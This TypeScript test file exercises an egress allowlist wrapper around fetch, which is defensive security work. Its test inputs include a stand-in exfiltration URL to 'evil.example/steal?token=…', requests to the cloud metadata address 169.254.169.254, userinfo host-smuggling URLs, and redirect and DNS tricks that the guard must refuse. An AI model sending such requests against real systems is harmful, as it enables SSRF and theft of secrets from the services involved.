import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllowlist } from '../../src/egress/allowlist.js';
import { createGuardedFetch, type EgressDenial } from '../../src/egress/guarded-fetch.js';
import type { Resolver } from '../../src/egress/resolve.js';
import { ToolgateError } from '../../src/errors/toolgate-error.js';
import { startLocalServer, type LocalServer } from './local-server.js';

let api: LocalServer;
let other: LocalServer;
beforeAll(async () => {
  [api, other] = await Promise.all([startLocalServer(), startLocalServer()]);
});
afterAll(async () => Promise.all([api.close(), other.close()]));

/** A resolver for made-up names; counts lookups so a second (rebinding) query would show. */
function fakeDns(names: Record<string, string[]>): Resolver & { calls: string[] } {
  const calls: string[] = [];
  const resolve = async (host: string) => {
    calls.push(host);
    const addresses = names[host];
    if (!addresses) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
    return addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
  };
  return Object.assign(resolve, { calls });
}

function guard(entries: string[], resolve?: Resolver, signal?: AbortSignal) {
  const denials: EgressDenial[] = [];
  const fetch = createGuardedFetch({
    allowlist: parseAllowlist(entries),
    owner: 'test_tool',
    onDenied: (d) => void denials.push(d),
    ...(resolve ? { resolve } : {}),
    ...(signal ? { signal } : {}),
  });
  return { fetch, denials };
}

async function refusal(promise: Promise<unknown>): Promise<ToolgateError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ToolgateError);
  expect((error as ToolgateError).code).toBe('egress_denied');
  return error as ToolgateError;
}

describe('guarded fetch against a real local server', () => {
  it('lets a listed host through and answers like fetch', async () => {
    const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
    const res = await fetch(`${api.url}/ok`);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ ok: true });
    expect(res.url).toBe(`${api.url}/ok`);
    expect(denials).toEqual([]);
  });

  it('sends method, headers and body', async () => {
    const { fetch } = guard([`127.0.0.1:${api.port}`]);
    const res = await fetch(`${api.url}/echo`, {
      method: 'POST',
      headers: { authorization: 'Bearer t0k', host: 'spoofed.example' },
      body: JSON.stringify({ a: 1 }),
    });
    expect(await res.json()).toMatchObject({
      method: 'POST',
      authorization: 'Bearer t0k',
      host: `127.0.0.1:${api.port}`, // a handler cannot point the request at another virtual host
      body: '{"a":1}',
    });
  });

  it('refuses another host, naming only host:port (never the path or query)', async () => {
    const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
    const error = await refusal(fetch('http://evil.example/steal?token=s3cr3t-value'));
    expect(error.detail).toContain('evil.example:80');
    expect(error.detail).not.toMatch(/steal|s3cr3t/);
    expect(error.message).not.toMatch(/steal|s3cr3t/);
    expect(denials).toEqual([{ host: 'evil.example:80', why: 'host is not in the allowlist' }]);
  });

  it('refuses the same address on another port', async () => {
    const { fetch } = guard([`127.0.0.1:${api.port}`]);
    await refusal(fetch(`http://127.0.0.1:${other.port}/ok`));
    expect(other.seen).toHaveLength(0);
  });

  it('refuses userinfo, even when the userinfo spells a listed host', async () => {
    const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
    await refusal(fetch(`http://127.0.0.1:${api.port}@evil.example/`));
    await refusal(fetch(`http://user:pw@127.0.0.1:${api.port}/ok`));
    expect(denials.map((d) => d.host)).toEqual(['evil.example:80', `127.0.0.1:${api.port}`]);
  });

  it.each(['http://[::1]:PORT/ok', 'http://[::ffff:127.0.0.1]:PORT/ok', 'http://[::ffff:7f00:1]:PORT/ok'])(
    'refuses the IPv6 loopback form %s even though 127.0.0.1:PORT is listed',
    async (url) => {
      const { fetch } = guard([`127.0.0.1:${api.port}`]);
      await refusal(fetch(url.replace('PORT', String(api.port))));
    },
  );

  it('refuses 169.254.169.254 and 0.0.0.0 unless listed', async () => {
    const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
    await refusal(fetch('http://169.254.169.254/latest/meta-data/'));
    await refusal(fetch(`http://0.0.0.0:${api.port}/ok`));
    expect(denials.map((d) => d.host)).toEqual(['169.254.169.254:80', `0.0.0.0:${api.port}`]);
  });

  describe('redirects', () => {
    const to = (target: string, code = 302) => `${api.url}/redirect?to=${encodeURIComponent(target)}&code=${code}`;

    it('refuses a redirect to an unlisted host, before anything is sent there', async () => {
      const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
      const before = other.seen.length;
      await refusal(fetch(to(`http://127.0.0.1:${other.port}/ok`)));
      expect(other.seen.length).toBe(before);
      expect(denials[0]).toEqual({
        host: `127.0.0.1:${other.port}`,
        why: 'host is not in the allowlist (reached by a redirect)',
      });
    });

    it('follows a redirect to a listed host, and says so as fetch does (redirected, the final url)', async () => {
      const { fetch } = guard([`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`]);
      const res = await fetch(to(`http://127.0.0.1:${other.port}/ok`));
      expect(res.status).toBe(200);
      expect(res.url).toBe(`http://127.0.0.1:${other.port}/ok`);
      expect(res.redirected).toBe(true);
      expect((await fetch(`${api.url}/ok`)).redirected).toBe(false);
    });

    it('says a refusal came by a redirect for userinfo and schemes too, and labels a scheme without port 80', async () => {
      const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
      await refusal(fetch(to(`http://user@127.0.0.1:${api.port}/ok`)));
      await refusal(fetch(to('ftp://files.example/x')));
      await refusal(fetch('ftp://files.example/x'));
      expect(denials).toEqual([
        { host: `127.0.0.1:${api.port}`, why: 'URL carries userinfo (reached by a redirect)' },
        { host: 'ftp://files.example', why: 'scheme ftp: is not allowed (reached by a redirect)' },
        { host: 'ftp://files.example', why: 'scheme ftp: is not allowed' },
      ]);
    });

    it("with redirect: 'error' names where the redirect pointed, not where it came from", async () => {
      const { fetch } = guard([`127.0.0.1:${api.port}`]);
      const failed = await fetch(to('http://elsewhere.example:8080/x'), { redirect: 'error' }).catch(
        (error: unknown) => error as TypeError,
      );
      expect(failed).toBeInstanceOf(TypeError);
      expect(String((failed as TypeError).cause)).toContain('redirect to elsewhere.example:8080');
    });

    it.each(['http://169.254.169.254/latest/meta-data/iam', 'http://127.0.0.1/', 'http://[::1]/', 'http://localhost/'])(
      'refuses a redirect to %s',
      async (target) => {
        const { fetch } = guard([`127.0.0.1:${api.port}`]);
        await refusal(fetch(to(target, 307)));
      },
    );

    it('refuses a redirect to a listed name that resolves to an unlisted loopback address', async () => {
      const dns = fakeDns({ 'internal.test': ['127.0.0.1'] });
      const { fetch, denials } = guard([`127.0.0.1:${api.port}`, `internal.test:${other.port}`], dns);
      await refusal(fetch(to(`http://internal.test:${other.port}/ok`)));
      expect(denials[0]?.why).toMatch(/resolves only to unlisted special addresses: 127\.0\.0\.1 \(loopback\)/);
    });

    it('follows at most five hops', async () => {
      const { fetch, denials } = guard([`127.0.0.1:${api.port}`]);
      expect((await fetch(`${api.url}/chain/5`)).status).toBe(200);
      await refusal(fetch(`${api.url}/chain/6`));
      expect(denials[0]?.why).toBe('more than 5 redirects');
    });

    it("returns the redirect itself with redirect: 'manual'", async () => {
      const { fetch } = guard([`127.0.0.1:${api.port}`]);
      const res = await fetch(to('http://evil.example/'), { redirect: 'manual' });
      expect(res.status).toBe(302);
      expect(res.headers.get('location')).toBe('http://evil.example/');
      await refusal(fetch(res.headers.get('location')!)); // following it by hand is checked again
    });

    it('drops Authorization on a cross-origin hop, keeps it on the same origin', async () => {
      const { fetch } = guard([`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`]);
      const headers = { authorization: 'Bearer only-for-api' };
      const cross = await fetch(to(`http://127.0.0.1:${other.port}/echo`, 307), { headers });
      expect(await cross.json()).toMatchObject({ authorization: null });
      const same = await fetch(to(`${api.url}/echo`, 307), { headers });
      expect(await same.json()).toMatchObject({ authorization: 'Bearer only-for-api' });
    });

    it('keeps a credential in any other header with its origin too (x-api-key), not only Authorization', async () => {
      // fetch itself forwards x-api-key; the README promises credentials stay with their origin.
      const { fetch } = guard([`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`]);
      const headers = { 'x-api-key': 'only-for-api', 'content-type': 'application/json' };
      const cross = await fetch(to(`http://127.0.0.1:${other.port}/echo`, 307), {
        method: 'POST',
        headers,
        body: '{}',
      });
      expect(await cross.json()).toMatchObject({ apiKey: null, body: '{}' });
      const same = await fetch(to(`${api.url}/echo`, 307), { method: 'POST', headers, body: '{}' });
      expect(await same.json()).toMatchObject({ apiKey: 'only-for-api' });
    });

    it("honours a Request's own redirect mode and signal, as fetch does", async () => {
      const { fetch } = guard([`127.0.0.1:${api.port}`]);
      const manual = await fetch(new Request(to('http://evil.example/'), { redirect: 'manual' }));
      expect(manual.status).toBe(302);
      await expect(fetch(new Request(to(`${api.url}/ok`), { redirect: 'error' }))).rejects.toThrow(TypeError);
      const before = api.seen.length;
      const aborted = new Request(`${api.url}/ok`, { signal: AbortSignal.abort(new Error('caller gave up')) });
      await expect(fetch(aborted)).rejects.toThrow('caller gave up');
      expect(api.seen.length).toBe(before); // nothing was sent
    });

    it('turns a POST into a GET on 303 and keeps it on 307', async () => {
      const { fetch } = guard([`127.0.0.1:${api.port}`]);
      const see = await fetch(to(`${api.url}/echo`, 303), { method: 'POST', body: 'x=1' });
      expect(await see.json()).toMatchObject({ method: 'GET', body: '' });
      const temp = await fetch(to(`${api.url}/echo`, 307), { method: 'POST', body: 'x=1' });
      expect(await temp.json()).toMatchObject({ method: 'POST', body: 'x=1' });
    });
  });

  describe('DNS', () => {
    it('refuses a name resolving to loopback (localhost) unless the address is listed too', async () => {
      const named = guard([`localhost:${api.port}`]);
      const error = await refusal(named.fetch(`http://localhost:${api.port}/ok`));
      expect(error.detail).toMatch(/loopback/);
      const both = guard([`localhost:${api.port}`, `127.0.0.1:${api.port}`]);
      expect((await both.fetch(`http://localhost:${api.port}/ok`)).status).toBe(200);
    });

    it('refuses a listed "public" name that resolves to a private or metadata address', async () => {
      const dns = fakeDns({ 'api.partner.test': ['10.1.2.3'], 'meta.partner.test': ['169.254.169.254'] });
      const { fetch, denials } = guard(['api.partner.test', 'meta.partner.test'], dns);
      await refusal(fetch('http://api.partner.test/v1'));
      await refusal(fetch('http://meta.partner.test/v1'));
      expect(denials.map((d) => d.why)).toEqual([
        'resolves only to unlisted special addresses: 10.1.2.3 (private)',
        'resolves only to unlisted special addresses: 169.254.169.254 (link-local (cloud metadata))',
      ]);
    });

    it('connects to the checked address only: one lookup per hop, the socket pinned to its answer', async () => {
      // api.test exists nowhere but in this resolver: reaching the server proves the pin is used.
      const dns = fakeDns({ 'api.test': ['127.0.0.1'] });
      const { fetch } = guard([`api.test:${api.port}`, `127.0.0.1:${api.port}`], dns);
      const res = await fetch(`http://api.test:${api.port}/echo`);
      expect(await res.json()).toMatchObject({ host: `api.test:${api.port}` });
      expect(dns.calls).toEqual(['api.test']);
    });

    it('drops unlisted special addresses from a mixed answer and connects to the rest', async () => {
      const dns = fakeDns({ 'mixed.test': ['169.254.169.254', '127.0.0.1'] });
      const { fetch } = guard([`mixed.test:${api.port}`, `127.0.0.1:${api.port}`], dns);
      expect((await fetch(`http://mixed.test:${api.port}/ok`)).status).toBe(200);
    });

    it('reports an unresolvable name as a network failure, like fetch', async () => {
      const { fetch } = guard(['nowhere.test'], fakeDns({}));
      const error = await fetch('http://nowhere.test/').catch((e: unknown) => e);
      expect(error).toBeInstanceOf(TypeError);
      expect((error as TypeError).cause).toMatchObject({ code: 'ENOTFOUND' });
    });
  });

  it('stops waiting for a name lookup when its signal aborts', async () => {
    const never: Resolver = () => new Promise(() => undefined);
    const deadline = new AbortController();
    const { fetch } = guard([`slow.test:${api.port}`], never, deadline.signal);
    setTimeout(() => deadline.abort(new Error('call deadline')), 50);
    // Before, the lookup was awaited without the signal: still pending long after the deadline.
    await expect(fetch(`http://slow.test:${api.port}/ok`)).rejects.toThrow('call deadline');
  });

  it('a wildcard needs a real name below it: an empty label is not one', async () => {
    const dns = fakeDns({ 'billing.acme.internal': ['10.0.0.5'], '.acme.internal': ['10.0.0.6'] });
    const { fetch, denials } = guard(['*.acme.internal'], dns);
    await refusal(fetch('http://.acme.internal/x'));
    expect(denials[0]?.why).toBe('host is not in the allowlist');
    expect(dns.calls).toEqual([]);
  });

  it('stops when its signal aborts, with the signal reason', async () => {
    const controller = new AbortController();
    const { fetch } = guard([`127.0.0.1:${api.port}`], undefined, controller.signal);
    const pending = fetch(`${api.url}/slow`);
    setTimeout(() => controller.abort(new ToolgateError('timeout')), 50);
    await expect(pending).rejects.toMatchObject({ code: 'timeout' });
  });

  it('ends a half-read body when its signal aborts', async () => {
    const controller = new AbortController();
    const { fetch } = guard([`127.0.0.1:${api.port}`], undefined, controller.signal);
    const res = await fetch(`${api.url}/half`);
    expect(res.status).toBe(200);
    const body = res.text();
    controller.abort(new ToolgateError('timeout'));
    await expect(body).rejects.toBeDefined();
  });

  it('reports a refused connection as fetch does (TypeError with the system error as cause)', async () => {
    const closed = await startLocalServer();
    await closed.close();
    const { fetch } = guard([`127.0.0.1:${closed.port}`]);
    const error = await fetch(`${closed.url}/ok`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TypeError);
    expect((error as TypeError).cause).toMatchObject({ code: 'ECONNREFUSED' });
  });
});
